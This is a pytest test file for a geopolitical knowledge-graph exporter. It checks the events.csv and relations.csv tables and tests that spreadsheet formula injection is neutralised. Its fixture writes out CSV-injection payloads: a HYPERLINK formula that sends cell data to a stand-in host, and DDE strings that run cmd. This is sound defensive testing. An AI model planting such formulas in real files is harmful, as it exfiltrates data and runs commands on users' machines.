"""events.csv and relations.csv: one row per claim, read back by pandas and csv."""

from __future__ import annotations

import csv
import io
from datetime import date

import networkx as nx
import pandas as pd
import pytest
from geokg.exports.event_tables import (
    EVENT_COLUMNS,
    QUAD_CLASSES,
    RELATION_COLUMNS,
    neutralise,
    to_event_tables,
)
from geokg.exports.files import write_atomic
from geokg.exports.formats import EXTRA_FORMATS, FORMATS, render
from geokg.exports.nodelink import read_build
from geokg.graph.build import build_graph, iter_assertions
from geokg.graph.model import Assertion, DocResult, Document, Entity, TextSpan
from geokg.graph.vocabulary import FAMILIES, RELATIONS

from tests.conftest import HOSTILE, run_cli
from tests.exports.test_roundtrip_hostile import HOSTILE_TEXT
from tests.exports.test_roundtrip_hostile import hostile_graph as text_hostile_graph

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER_COLUMNS = {"confidence", "quad_class"}  # a spreadsheet reads -0.5 as a number
FORMULAS = {
    "equals": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def read_rows(text: str) -> list[dict[str, str]]:
    """The records of a CSV text, as csv.DictReader reads them."""
    csv.field_size_limit(1 << 24)  # the hostile sentences are longer than 128 KiB
    return list(csv.DictReader(io.StringIO(text, newline="")))


def read_frame(text: str) -> pd.DataFrame:
    """A CSV text as pandas reads it: every cell as text, empty cells as ''."""
    return pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)


def unneutralise(cell: str) -> str:
    """The text a neutralised cell stood for."""
    if cell[:1] == "'" and cell[1:2] and cell[1] in "".join(FORMULA_STARTS):
        return cell[1:]
    return cell


def edges_of(g: nx.MultiDiGraph, *, events: bool) -> list[str]:
    """The keys of the claim edges whose relation is (or is not) an event."""
    return [
        k
        for _, _, k, rel in g.edges(keys=True, data="relation")
        if RELATIONS[rel].is_event == events
    ]


def tables(g: nx.MultiDiGraph) -> dict[str, str]:
    """events.csv and relations.csv as text, rendered through the format table."""
    out = render(g, ["events"])
    assert sorted(out) == ["events.csv", "relations.csv"]
    return {name: data.decode("utf-8") for name, data in out.items()}


def formula_graph() -> nx.MultiDiGraph:
    """Labels, aliases, titles, urls and sentences that a spreadsheet would run."""
    ents = [
        Entity(f"e-{name}", text, "Country", aliases=(text,))
        for name, text in FORMULAS.items()
    ]
    claims = []
    for n, (s, o) in enumerate(zip(ents, ents[1:], strict=False)):
        sentence = f'{s.label},\n"{o.label}"\r\n met'
        claims.append(
            Assertion(
                doc_id="=doc",
                relation="met-with" if n % 2 else "member-of",
                subject=s.ref(),
                object=o.ref(),
                sentence=TextSpan(s.label if n == 0 else sentence, 0, 10),
                subject_span=(0, 1),
                object_span=(2, 3),
                trigger=TextSpan("-met", 0, 1),
                role="@role",
                rule="=rule",
                date="-2024",
                confidence=-0.5,  # never made, but a number column stays a number
            )
        )
    doc = Document(
        "=doc",
        "t",
        title=FORMULAS["equals"],
        url=FORMULAS["at"],
        publisher=FORMULAS["plus"],
        published=date(2024, 3, 1),
    )
    return build_graph([DocResult(doc, tuple(ents), tuple(claims))])


# ---- the format -------------------------------------------------------------


def test_events_is_an_extra_format_of_two_files():
    fmt = FORMATS["events"]
    assert not fmt.default and "events" in EXTRA_FORMATS
    assert fmt.filenames == ("events.csv", "relations.csv")
    assert "events.csv" not in render(build_graph([]))  # not written by default


def test_every_event_family_has_its_gdelt_quad_class():
    events = {f for f in FAMILIES if f != "standing"}
    assert set(QUAD_CLASSES) == events
    assert sorted(QUAD_CLASSES.values()) == [1, 2, 3, 4]
    assert QUAD_CLASSES["verbal-cooperation"] == 1
    assert QUAD_CLASSES["material-conflict"] == 4


# ---- rows, columns, values ---------------------------------------------------


def test_one_row_per_claim_split_by_family(rdf_tiny):
    out = tables(rdf_tiny)
    for name, columns, events in (
        ("events.csv", EVENT_COLUMNS, True),
        ("relations.csv", RELATION_COLUMNS, False),
    ):
        keys = edges_of(rdf_tiny, events=events)
        frame, rows = read_frame(out[name]), read_rows(out[name])
        assert list(frame.columns) == list(columns)
        assert list(rows[0]) == list(columns)
        assert len(frame) == len(rows) == len(keys) > 0
        id_column = columns[0]
        assert sorted(frame[id_column]) == sorted(keys)
        assert {RELATIONS[r].is_event for r in frame["relation"]} == {events}


def test_an_event_row_carries_its_coding_and_evidence(rdf_tiny):
    frame = read_frame(tables(rdf_tiny)["events.csv"]).set_index("relation")
    row = frame.loc["drilled-with"]
    key = next(
        k
        for u, v, k, r in rdf_tiny.edges(keys=True, data="relation")
        if r == "drilled-with"
    )
    assert row["claim_id"] == key
    assert (row["date"], row["date_from"], row["published"]) == (
        "2025-07-18",
        "claim",
        "2025-07-20",
    )
    assert (row["source_id"], row["source_label"], row["source_type"]) == (
        "iran",
        "Iran",
        "Country",
    )
    assert (row["source_iso3"], row["target_id"], row["target_iso3"]) == (
        "IRN",
        "russia",
        "",
    )
    assert (row["family"], row["quad_class"], row["cameo"], row["plover"]) == (
        "material-cooperation",
        "2",
        "062",  # read as text: a CAMEO code keeps its leading zero
        "COOPERATE",
    )
    assert (row["modality"], row["negated"], row["fact"]) == (
        "asserted",
        "false",
        "true",
    )
    assert (row["location_id"], row["location_label"]) == ("caspian-sea", "Caspian Sea")
    assert (row["doc_id"], row["url"], row["title"]) == (
        "d2",
        "https://news.example/2",
        "Drills",
    )
    assert row["sentence"] == "Sentence 0 about iran and russia."
    # an undated claim takes its article's date, and says so
    undated = frame.loc["condemned"]
    assert (undated["date"], undated["date_from"]) == ("2025-07-15", "article")


def test_pandas_reads_typed_columns(rdf_tiny):
    frame = pd.read_csv(io.StringIO(tables(rdf_tiny)["events.csv"]))
    assert frame["confidence"].dtype == float and set(frame["confidence"]) == {0.8}
    assert frame["negated"].dtype == bool
    assert frame["quad_class"].dtype == int
    threat = frame.set_index("relation").loc["threatened"]
    assert bool(threat["negated"]) and not bool(threat["fact"])


def test_a_relation_row_carries_the_role(rdf_tiny):
    rows = read_rows(tables(rdf_tiny)["relations.csv"])
    minister = [r for r in rows if r["target_id"] == "iran-mfa"]
    assert len(minister) == 1
    assert minister[0]["source_id"] == "abbas-araghchi"
    assert (minister[0]["relation"], minister[0]["role"]) == ("official-of", "minister")
    negated = [r for r in rows if r["source_id"] == "iran" and r["target_id"] == "sco"]
    assert [(r["negated"], r["fact"]) for r in negated] == [("true", "false")]


def test_an_official_takes_the_state_of_the_office(rdf_tiny):
    rows = read_rows(tables(rdf_tiny)["events.csv"])
    met = next(r for r in rows if r["relation"] == "met-with")
    # xi-jinping official-of china: the graph's fact names his state
    assert (met["target_id"], met["target_parent"]) == ("xi-jinping", "china")
    # abbas-araghchi official-of iran-mfa, whose official-of iran gives IRN
    assert (met["source_parent"], met["source_iso3"]) == ("iran-mfa", "IRN")


def test_an_edge_without_a_string_key_gets_the_hash_of_its_fields(rdf_tiny):
    rekeyed = nx.MultiDiGraph()
    rekeyed.graph.update(rdf_tiny.graph)
    rekeyed.add_nodes_from(rdf_tiny.nodes(data=True))
    for n, (u, v, data) in enumerate(rdf_tiny.edges(data=True)):
        rekeyed.add_edge(u, v, key=n, **data)
    # build keys every edge by the same hash of document, sentence, actors, relation
    assert tables(rekeyed) == tables(rdf_tiny)


# ---- bytes: RFC 4180, determinism, hostile text ------------------------------


def test_records_end_in_crlf_and_have_every_column(rdf_tiny):
    text = tables(rdf_tiny)["events.csv"]
    assert text.endswith("\r\n") and text.count("\r\n") == 1 + len(
        edges_of(rdf_tiny, events=True)
    )
    records = list(csv.reader(io.StringIO(text, newline="")))
    assert {len(r) for r in records} == {len(EVENT_COLUMNS)}


def test_same_graph_same_bytes_whatever_the_edge_order(rdf_tiny):
    reversed_graph = nx.MultiDiGraph()
    reversed_graph.graph.update(rdf_tiny.graph)
    reversed_graph.add_nodes_from(reversed(list(rdf_tiny.nodes(data=True))))
    reversed_graph.add_edges_from(reversed(list(rdf_tiny.edges(keys=True, data=True))))
    first = render(rdf_tiny, ["events"])
    assert render(rdf_tiny, ["events"]) == first
    assert render(reversed_graph, ["events"]) == first


@pytest.mark.parametrize("name", ["events.csv", "relations.csv"])
def test_no_cell_starts_a_formula(name):
    g = formula_graph()
    text = tables(g)[name]
    rows = read_rows(text)
    assert rows
    for row in rows:
        for column, cell in row.items():
            if column not in NUMBER_COLUMNS:
                assert not cell.startswith(FORMULA_STARTS), (column, cell)
            else:
                float(cell)
    frame = read_frame(text)
    for column in set(frame.columns) - NUMBER_COLUMNS:
        assert not frame[column].str.startswith(FORMULA_STARTS).any(), column


def test_neutralised_text_reads_back_and_numbers_are_left_alone():
    g = formula_graph()
    rows = read_rows(tables(g)["events.csv"])
    by_id = {a.id: a for a in iter_assertions(g)}
    for row in rows:
        a = by_id[row["claim_id"]]
        assert unneutralise(row["source_label"]) == g.nodes[a.subject.id]["label"]
        assert unneutralise(row["sentence"]) == a.sentence.text
        assert row["title"] == "'" + FORMULAS["equals"]
        assert row["confidence"] == "-0.5"  # a number, not text: never prefixed
        assert row["date"] == "'-2024"
    assert neutralise("x=1") == "x=1" and neutralise("'=1") == "'=1"


def test_hostile_text_round_trips():
    g = text_hostile_graph()
    text = tables(g)["events.csv"]
    text.encode("utf-8")
    by_id = {a.id: a for a in iter_assertions(g)}
    rows, frame = read_rows(text), read_frame(text)
    assert len(rows) == len(frame) == g.number_of_edges() == len(HOSTILE_TEXT)
    for row, (_, cells) in zip(rows, frame.iterrows(), strict=True):
        a = by_id[row["claim_id"]]
        for got in (row, cells):
            assert unneutralise(got["sentence"]) == a.sentence.text
            assert unneutralise(got["target_label"]) == g.nodes[a.object.id]["label"]
            assert unneutralise(got["doc_id"]) == a.doc_id


def test_the_html_payloads_are_plain_text(hostile):
    rows = read_rows(tables(hostile)["events.csv"])
    assert "Evil " + HOSTILE["img"] in {r["source_label"] for r in rows}
    assert {r["url"] for r in rows if r["doc_id"] == "d1"} == {HOSTILE["js"]}


def test_rdf_hostile_ids_and_lone_surrogates_are_written(rdf_hostile):
    g = rdf_hostile.copy()
    nx.set_node_attributes(g, {"a b": "lone \ud800 surrogate"}, "label")
    text = tables(g)["events.csv"]
    assert "lone \ufffd surrogate" in text
    assert len(read_rows(text)) == g.number_of_edges()


def test_an_empty_graph_gives_the_headers_only():
    out = to_event_tables(build_graph([]))
    assert out == {
        "events.csv": ",".join(EVENT_COLUMNS) + "\r\n",
        "relations.csv": ",".join(RELATION_COLUMNS) + "\r\n",
    }


# ---- through write_atomic and the CLI ----------------------------------------


def test_write_atomic_writes_both_tables(tmp_path, rdf_tiny):
    written = write_atomic(tmp_path, render(rdf_tiny, ["events"]))
    assert sorted(p.name for p in written) == ["events.csv", "relations.csv"]
    assert (tmp_path / "events.csv").read_bytes() == render(rdf_tiny, ["events"])[
        "events.csv"
    ]


@pytest.mark.model
def test_cli_writes_the_tables_of_the_seeds(seeds_tables):
    g = read_build(seeds_tables)
    for name, events in (("events.csv", True), ("relations.csv", False)):
        text = (seeds_tables / name).read_bytes().decode("utf-8")
        frame, rows = read_frame(text), read_rows(text)
        assert len(frame) == len(rows) == len(edges_of(g, events=events)) > 0
    events = read_frame((seeds_tables / "events.csv").read_text(encoding="utf-8"))
    drills = events[events["relation"] == "drilled-with"]
    pairs = set(zip(drills["source_id"], drills["target_id"], strict=True))
    assert ("iran", "russia") in pairs
    assert set(drills["cameo"]) == {"062"} and set(drills["quad_class"]) == {"2"}
    for name in ("graph.json", "graph.ttl", "neo4j/nodes.csv", "neo4j/load.cypher"):
        assert (seeds_tables / name).is_file(), name


def test_cli_help_lists_the_new_formats():
    proc = run_cli("build", "--formats", "events,nope")
    assert proc.returncode != 0
    assert "nt,jsonld,trig,events,neo4j" in proc.stderr
